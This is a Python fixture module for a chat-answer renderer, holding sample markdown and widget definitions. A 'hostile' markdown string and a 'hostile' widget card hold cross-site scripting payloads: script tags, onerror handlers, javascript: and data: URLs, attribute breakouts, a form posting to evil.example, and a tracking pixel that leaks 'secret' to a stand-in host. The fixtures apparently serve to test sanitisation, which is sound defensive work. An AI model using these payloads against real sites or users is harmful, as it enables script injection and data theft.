"""What an answer can hold: all that markdown can do, attempts to break out of it, and widgets."""

from __future__ import annotations

from typing import Any

MARKDOWN = {
    "everything": """\
# A heading

Some **bold**, *italic*, ~~struck~~ and `code`, and [a link](https://example.com/path).

| Name | Count |
|------|------:|
| Tea  | 3     |
| Coffee | 12  |

1. First
2. Second
   - nested
   - [x] done

> Quoted.

```python
def greet(name: str) -> str:
    return f"Hello {name}"
```

Euler: $e^{i\\pi} + 1 = 0$, and

$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$
""",
    "hostile": """\
<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg>
<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>
<a href="javascript:window.pwned = 5">html</a>
<style>body { display: none }</style>
<form action="https://evil.example"><button>go</button></form>
[markdown](javascript:window.pwned=6) [data](data:text/html,<script>window.pwned=7</script>)
[spaced]( java\tscript:window.pwned=8 )
![image](https://tracker.example/pixel.png?q=secret)
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 9">
$\\href{javascript:window.pwned=10}{x}$
```html
<script>window.pwned = 11</script>
```
The end.
""",
    "link": "Open [task 3](chatkit-link://task?id=3) on the page.",
    "long": "\n\n".join(f"Paragraph {n}: " + "words and more words " * 20 for n in range(40)),
}

HOSTILE = '"><img src=x onerror="window.pwned = 20"><script>window.pwned = 21</script>'

_BUTTON = {"type": "Button", "id": "go", "label": "Go", "onClickAction": {"type": "go", "payload": {"n": 1}}}
_CLIENT = {
    "type": "Button",
    "id": "here",
    "label": "Here",
    "onClickAction": {"type": "here", "payload": {"n": 2}, "handler": "client"},
}

WIDGETS: dict[str, dict[str, Any]] = {
    "card": {
        "type": "Card",
        "id": "card",
        "status": {"text": "Ready", "icon": "check-circle"},
        "children": [
            {"type": "Title", "id": "title", "value": "A card"},
            {"type": "Row", "id": "row", "children": [_BUTTON, _CLIENT]},
        ],
    },
    "form": {
        "type": "Card",
        "id": "form",
        "asForm": True,
        "confirm": {"label": "Send", "action": {"type": "sent", "payload": {"fixed": True}}},
        "cancel": {"label": "Cancel", "action": {"type": "cancelled"}},
        "children": [
            {"type": "Label", "id": "label", "value": "Name", "fieldName": "person.name"},
            {"type": "Input", "id": "name", "name": "person.name", "required": True},
            {"type": "Label", "id": "label2", "value": "Drink", "fieldName": "drink"},
            {
                "type": "Select",
                "id": "drink",
                "name": "drink",
                "options": [{"value": "tea", "label": "Tea"}, {"value": "coffee", "label": "Coffee"}],
                "defaultValue": "tea",
            },
            {"type": "Checkbox", "id": "sugar", "name": "sugar", "label": "Sugar"},
        ],
    },
    "hostile": {
        "type": "Card",
        "id": "hostile",
        "children": [
            {"type": "Text", "id": "a", "value": HOSTILE},
            {"type": "Markdown", "id": "b", "value": HOSTILE},
            {"type": "Image", "id": "c", "src": "javascript:window.pwned=22", "alt": HOSTILE},
            {"type": "Badge", "id": "d", "label": HOSTILE},
            {"type": "Nothing", "id": "e", "value": HOSTILE, "children": 7},
            {"type": "Row", "id": "f", "background": "url(https://tracker.example/x)", "children": [_BUTTON]},
            {"type": "Chart", "id": "g", "data": "none", "series": None, "xAxis": 3},
            {"type": "Select", "id": "h", "name": HOSTILE, "options": {"value": 1}},
        ],
    },
    "chart": {
        "type": "Card",
        "id": "chart",
        "children": [
            {
                "type": "Chart",
                "id": "c",
                "data": [{"day": "Mon", "cups": 2}, {"day": "Tue", "cups": 5}],
                "series": [{"type": "bar", "dataKey": "cups", "label": "Cups"}],
                "xAxis": "day",
            }
        ],
    },
}
